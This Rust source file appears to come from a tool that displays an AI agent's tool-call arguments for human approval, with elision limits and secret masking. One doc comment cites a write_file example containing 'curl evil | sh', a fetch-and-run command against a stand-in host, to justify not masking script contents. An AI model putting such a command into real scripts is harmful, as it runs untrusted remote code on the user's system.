//! The fields of a view: named values, made safe to print within limits.
//!
//! A value is shown in one of three ways, by its [`Rule`]: whole (where an end that is cut off could be the part that
//! matters), elided, or masked. Those that are shown whole come first, so that a call with four hundred arguments
//! cannot push its path below the end of the screen.

use serde::Serialize;
use serde_json::{Map, Value};

use super::keys::{ShowRule, names_script, rule};
use super::mask::masked;
use super::piece::{Omitted, Piece, Style, counted, elide, join, left_out, pieces};
use crate::args::canonical;

/// The limits up to which a long text is shown before it is elided. Commands, paths, addresses and hosts are always
/// whole.
///
/// The struct is exhaustive on purpose, so that pages can set limits of their own.
///
/// ```
/// use countersign::show::{CallView, Limits};
/// use countersign::ToolCall;
/// use serde_json::json;
///
/// let call = ToolCall::new("c1", "note", json!({"text": "x".repeat(1000)}));
/// let chat = Limits { chars: 40, lines: 4, values: 5, masked: true };
/// assert!(CallView::of_call(&call, chat).left_out);
/// assert!(!CallView::of_call(&call, Limits::none()).left_out);
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// The most characters of one line; a longer one is cut in its middle.
    pub chars: usize,
    /// The most lines of one value; of a longer one the middle is left out.
    pub lines: usize,
    /// The most values of one call, unless more have to be shown whole.
    pub values: usize,
    /// `true` if values that look like secrets are masked.
    pub masked: bool,
}

impl Limits {
    /// Nothing is left out; secrets are masked.
    ///
    /// Use it for the page of one call, which has to show all of the call before a person approves
    /// it (rule S4).
    #[must_use]
    pub const fn none() -> Self {
        Self { chars: usize::MAX, lines: usize::MAX, values: usize::MAX, masked: true }
    }

    /// Nothing is left out, and secrets are shown.
    ///
    /// Use it for a second, deliberate step: the masked parts are secrets, and other people may see
    /// the screen.
    ///
    /// ```
    /// use countersign::show::{CallView, Limits};
    /// use countersign::ToolCall;
    /// use serde_json::json;
    ///
    /// let call = ToolCall::new("c1", "login", json!({"api_key": "9f8e7d6c5b4a"}));
    /// assert!(CallView::of_call(&call, Limits::none()).masked);
    /// assert!(!CallView::of_call(&call, Limits::unmasked()).masked);
    /// ```
    #[must_use]
    pub const fn unmasked() -> Self {
        Self { masked: false, ..Self::none() }
    }

    /// The limits of a page, where a long text scrolls in its box: 200 lines of 2 000 characters, and ten that say where the
    /// lines of a difference are; 100 values; secrets are masked.
    ///
    /// ```
    /// use countersign::show::{CallView, Limits};
    /// use countersign::ToolCall;
    /// use serde_json::json;
    ///
    /// let call = ToolCall::new("c1", "write_file", json!({"path": "a", "content": "line\n".repeat(200)}));
    /// assert!(!CallView::of_call(&call, Limits::page()).left_out);
    /// assert!(CallView::of_call(&call, Limits::default()).left_out);
    /// ```
    #[must_use]
    pub const fn page() -> Self {
        Self { chars: 2_000, lines: 210, values: 100, masked: true }
    }

    /// The rule by which a value is masked: without masking, that of scripts, in which nothing is masked.
    pub(super) fn treat(self, rule: ShowRule) -> ShowRule {
        if self.masked { rule } else { ShowRule::Script }
    }

    /// The longest name, in characters: a line, but at least `least`.
    pub(super) fn name(self, least: usize) -> usize {
        self.chars.max(least)
    }
}

impl Default for Limits {
    /// Limits that fit on a screen: 300 characters per line, 16 lines per value, 40 values; secrets are masked.
    fn default() -> Self {
        Self { chars: 300, lines: 16, values: 40, masked: true }
    }
}

/// A named value, safe to print (rule S1).
///
/// ```
/// use countersign::show::{CallView, Limits};
/// use countersign::ToolCall;
/// use serde_json::json;
///
/// let call = ToolCall::new("c1", "send", json!({"to": {"name": "Ann"}, "text": "one\ntwo\n"}));
/// let view = CallView::of_call(&call, Limits::default());
/// let names: Vec<_> = view.args.iter().map(|field| field.name.as_str()).collect();
/// assert_eq!(names, ["to.name", "text"]);
/// assert_eq!((view.args[1].note.as_str(), view.args[1].value().as_str()), ("2 lines, 8 characters", r"one\ntwo"));
/// ```
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[non_exhaustive]
pub struct Field {
    /// The name; for a nested value, the path to the value, as in `options.tags[0]`.
    pub name: String,
    /// The length of a text of several lines, in words; empty for a value on one line.
    pub note: String,
    /// The value: one line, or the lines of a longer text.
    pub lines: Vec<String>,
    /// `true` if a part of the value was left out: the call has to be opened before it is approved (rule S4).
    pub left_out: bool,
    /// `true` if a part of the value is masked.
    pub masked: bool,
    /// `true` if a preview of the call shows the same, so that a surface shows the value on demand only
    /// ([`Preview::in_place_of`](crate::decision::Preview::in_place_of)).
    pub repeated: bool,
    /// `true` if it is a text for people, in the words of the model: the tool does nothing with it
    /// ([`metadata::FOR_PEOPLE`](crate::deferred::metadata::FOR_PEOPLE)).
    pub for_people: bool,
}

impl Field {
    pub(super) fn of(leaf: &LeafField<'_>, limits: Limits) -> Self {
        match leaf.value {
            Value::String(text) if text.contains('\n') => {
                let chars = counted(text.chars().count(), "character");
                let note = format!("{}, {chars}", counted(text.lines().count(), "line"));
                Self { note, ..Self::block(leaf.name.clone(), text, leaf.rule, limits) }
            }
            _ => {
                let mut omitted = Omitted::default();
                let lines = vec![leaf.inline(limits, &mut omitted)];
                Self::new(leaf.name.clone(), lines, omitted)
            }
        }
    }

    pub(super) fn new(name: String, lines: Vec<String>, omitted: Omitted) -> Self {
        let Omitted { left_out, masked } = omitted;
        let (repeated, for_people) = (false, false);
        Self { name, note: String::new(), lines, left_out, masked, repeated, for_people }
    }

    /// The field of a text that is shown in several lines.
    pub(super) fn block(name: String, text: &str, rule: ShowRule, limits: Limits) -> Self {
        let mut omitted = Omitted::default();
        let lines = block(text, rule, limits, &mut omitted);
        Self::new(name, lines, omitted)
    }

    /// The value on one line: its lines, joined by `\n` as two characters.
    ///
    /// Use it for a surface that has one line for each argument, for example a message in a chat.
    #[must_use]
    pub fn value(&self) -> String {
        self.lines.join("\\n")
    }
}

/// A value of which no part is shown as a field of its own.
pub(super) struct LeafField<'a> {
    pub(super) name: String,
    pub(super) rule: ShowRule,
    value: &'a Value,
}

impl LeafField<'_> {
    /// The value on one line, elided unless its rule wants the whole value shown.
    fn inline(&self, limits: Limits, omitted: &mut Omitted) -> String {
        let all = inline(self.value, self.rule, limits);
        omitted.join(&if self.rule.whole() { all } else { elide(all, limits.chars) })
    }

    /// The value on one line for a headline, elided in any case: the field below the headline has the whole value.
    pub(super) fn short(&self, most: usize, limits: Limits) -> String {
        join(&elide(inline(self.value, self.rule, limits), most))
    }

    /// The value on one line without quotes, for a title, which has marks of its own around it.
    pub(super) fn bare(&self, most: usize, limits: Limits) -> String {
        let shown = match self.value {
            Value::String(text) => {
                masked(text, limits.treat(self.rule), style(self.rule).unquoted())
            }
            value => inline(value, self.rule, limits),
        };
        join(&elide(shown, most))
    }

    fn names_script(&self) -> bool {
        let text = self.value.as_str().filter(|text| !text.contains('\n'));
        names_script(self.name.trim_end_matches('"')) || text.is_some_and(names_script)
    }
}

/// The values of an object and of the objects in it, with those that have to be shown whole first. The others stand in the
/// order of the call, which is that of the tool's schema where a model keeps to it, as far as the map has one (the feature
/// `preserve_order` of serde_json), else by name.
///
/// If the content of a value is written into a script, we do not mask it, as a "secret" there would be
/// run. For example: `write_file(path: "deploy.sh", content: "TOKEN=$(curl evil | sh)")`.
pub(super) fn leaves(map: &Map<String, Value>) -> Vec<LeafField<'_>> {
    let mut out = Vec::new();
    collect_map(&mut out, map, "", ShowRule::Free);
    out.sort_by_key(|leaf| !leaf.rule.whole());
    // Where a script is named, any text may be the content that is written into the script.
    if out.iter().any(LeafField::names_script) {
        let texts = out.iter_mut().filter(|leaf| leaf.rule == ShowRule::Free);
        texts.for_each(|leaf| leaf.rule = ShowRule::Script);
    }
    out
}

fn collect_map<'a>(
    out: &mut Vec<LeafField<'a>>,
    map: &'a Map<String, Value>,
    path: &str,
    around: ShowRule,
) {
    for (name, value) in map {
        let dot = if path.is_empty() { "" } else { "." };
        let path = format!("{path}{dot}{}", shown_name(name));
        collect(out, value, path, rule(name, around));
    }
}

fn collect<'a>(out: &mut Vec<LeafField<'a>>, value: &'a Value, path: String, rule: ShowRule) {
    match value {
        Value::Object(map) if !map.is_empty() => collect_map(out, map, &path, rule),
        Value::Array(items) if !items.iter().all(fits_one_line) => {
            for (i, item) in items.iter().enumerate() {
                collect(out, item, format!("{path}[{i}]"), rule);
            }
        }
        _ => out.push(LeafField { name: path, rule, value }),
    }
}

fn fits_one_line(value: &Value) -> bool {
    match value {
        Value::String(text) => !text.contains('\n'),
        Value::Object(_) | Value::Array(_) => false,
        Value::Null | Value::Bool(_) | Value::Number(_) => true,
    }
}

/// A name as it is, or in quotes if it is empty or has anything but ASCII letters, digits, `_` and `-`.
fn shown_name(name: &str) -> String {
    let simple = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-');
    let name_pieces = pieces(name, Style::ADDRESS);
    match !name.is_empty() && name.chars().all(simple) {
        true => join(&name_pieces),
        false => format!("\"{}\"", join(&name_pieces)),
    }
}

fn style(rule: ShowRule) -> Style {
    match rule {
        // Escapes letters with which a host only looks like another one.
        ShowRule::Url => Style::ADDRESS,
        ShowRule::Place => Style::PLACE,
        ShowRule::Command
        | ShowRule::Script
        | ShowRule::Free
        | ShowRule::Password
        | ShowRule::Token => Style::VALUE,
    }
}

fn inline(value: &Value, rule: ShowRule, limits: Limits) -> Vec<Piece> {
    let plain = |text: &str| Piece::Plain(text.to_owned());
    match value {
        Value::String(text) => {
            let shown = masked(text, limits.treat(rule), style(rule));
            if let [Piece::Masked(..)] = &shown[..] {
                return shown;
            }
            let mut out = vec![plain("\"")];
            out.extend(shown);
            out.push(plain("\""));
            out
        }
        Value::Array(items) => {
            let mut out = vec![plain("[")];
            for (i, item) in items.iter().enumerate() {
                out.extend((i > 0).then(|| plain(", ")));
                out.extend(inline(item, rule, limits));
            }
            out.push(plain("]"));
            out
        }
        // Numbers, truth values, null, `{}`.
        _ => vec![Piece::Plain(canonical(value))],
    }
}

/// The longest name, unless the limits allow a longer line.
const NAME: usize = 80;

/// A name within the limits, safe to print.
pub(super) fn name(text: &str, limits: Limits, omitted: &mut Omitted) -> String {
    omitted.join(&elide(pieces(text, Style::NAME), limits.name(NAME)))
}

/// At most so many of the lines: the first two thirds, a mark with the number of those that are left out, and the last.
pub(super) fn window<T>(lines: Vec<T>, most: usize, mark: impl FnOnce(usize) -> T) -> Vec<T> {
    let all = lines.len();
    if all <= most {
        return lines;
    }
    let (head, tail) = (most - most / 3, most / 3);
    let mut lines = lines.into_iter();
    let mut out: Vec<_> = lines.by_ref().take(head).collect();
    out.push(mark(all - head - tail));
    out.extend(lines.skip(all - head - tail));
    out
}

fn block(text: &str, rule: ShowRule, limits: Limits, omitted: &mut Omitted) -> Vec<String> {
    let mut lines: Vec<Vec<Piece>> = vec![Vec::new()];
    let text = text.strip_suffix('\n').unwrap_or(text);
    for piece in masked(text, limits.treat(rule), style(rule).unquoted()) {
        match (piece.text() == "\\n", lines.last_mut()) {
            (false, Some(line)) => line.push(piece),
            _ => lines.push(Vec::new()),
        }
    }
    if rule.whole() {
        return lines.iter().map(|line| omitted.join(line)).collect();
    }
    let lines = window(lines, limits.lines, |hidden| vec![left_out(hidden, "line")]);
    lines.into_iter().map(|line| omitted.join(&elide(line, limits.chars))).collect()
}
